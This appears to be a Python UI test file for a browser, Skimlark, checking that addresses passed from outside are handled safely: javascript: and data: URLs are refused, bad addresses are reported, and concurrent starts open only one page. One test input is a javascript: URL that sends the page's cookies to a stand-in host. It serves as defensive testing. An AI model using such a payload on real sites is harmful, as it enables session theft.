"""What the command line and other programs hand the program: only web pages,
files and the blank page open, whatever page is on screen; what is refused or
given up is told."""
import subprocess
import sys

import pyatspi

from skimlark_at import Session, check, find, message_box, press, text_of, wait_for

START = "http://www.velmora.example/skimlark.htm"
REFUSED = "Skimlark did not open the %s: address it was handed: from outside, it opens only web pages and files."


def location(session):
    return text_of(find(session.find("combo box", "Location:"), "text", "Location:"))


def scripts_never_reach_the_page_on_screen(binary):
    session = Session(binary)
    session.proxy.pages["http://bank.test/"] = ("Bank", "<script>document.cookie='session=secret42'</script>")
    session.proxy.pages["http://after.test/"] = ("After", "after")
    session.start("http://bank.test/")
    try:
        wait_for(lambda: session.panel(2) == "http://bank.test/", 60, "the bank (panel 2 %r)" % session.panel(2))
        # As a link in a mail would, through "skimlark %U".
        for given in ("javascript:void(new Image().src='http://evil.test/log?c='+document.cookie)",
                      "data:text/html,<title>Bank</title>"):
            check(session.run_again(given) == 0, "the second start's exit status")
            scheme = given.split(":")[0]
            wait_for(lambda: session.panel(2) == REFUSED % scheme, 30, "the refusal (panel 2 %r)" % session.panel(2))
            check(location(session) == "http://bank.test/", "the address shown: %r" % location(session))
        # What the refused addresses did would have reached the proxy first.
        check(session.run_again("http://after.test/") == 0, "the third start's exit status")
        wait_for(lambda: session.window.name == "Skimlark - After", 30, "the page handed over last")
        check(session.proxy.requests == ["http://bank.test/", "http://after.test/"], "%r" % session.proxy.requests)
    finally:
        session.close()


def no_address_is_told_and_the_home_page_opens(binary):
    session = Session(binary).start("", "bank test")
    try:
        box = message_box(session, "Skimlark cannot open \u201cbank test\u201d: it is neither a web address nor a file.")
        wait_for(lambda: session.panel(2) == START, 60, "the start page (panel 2 %r)" % session.panel(2))
        press(find(box, "push button", "OK"))
    finally:
        session.close()


def ten_starts_at_once(binary):
    session = Session(binary)
    addresses = ["http://a%d.test/" % n for n in range(10)]
    # No page shows before every start has handed its address over.
    session.proxy.answering.clear()
    pyatspi.Registry.getDesktop(0).childCount
    starts = [subprocess.Popen([binary, address], env=session.environment(), stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL) for address in addresses]
    try:
        wait_for(lambda: [start.poll() for start in starts].count(0) == 9, 120, "nine starts to hand over and end")
        session.process = next(start for start in starts if start.poll() is None)
        session.app = wait_for(session._find_app, 60, "the program on the accessibility bus")
        wait_for(lambda: session.proxy.requests, 60, "a page asked for")
        session.proxy.answering.set()
        wait_for(lambda: session.panel(1) == "Got it", 60, "the page to load")
        last = session.proxy.requests[-1]
        check(last in addresses and location(session) == last, "shown %r, last asked %r" % (location(session), last))
        check(session.panel(2) == "9 other addresses handed to Skimlark were not opened: it shows one page at a "
                                  "time, the last one asked for.", "panel 2: %r" % session.panel(2))
    finally:
        session.proxy.answering.set()
        for start in starts:
            if start.poll() is None:
                start.kill()
                start.wait()
        session.process = None
        session.close()


if __name__ == "__main__":
    scripts_never_reach_the_page_on_screen(sys.argv[1])
    no_address_is_told_and_the_home_page_opens(sys.argv[1])
    ten_starts_at_once(sys.argv[1])
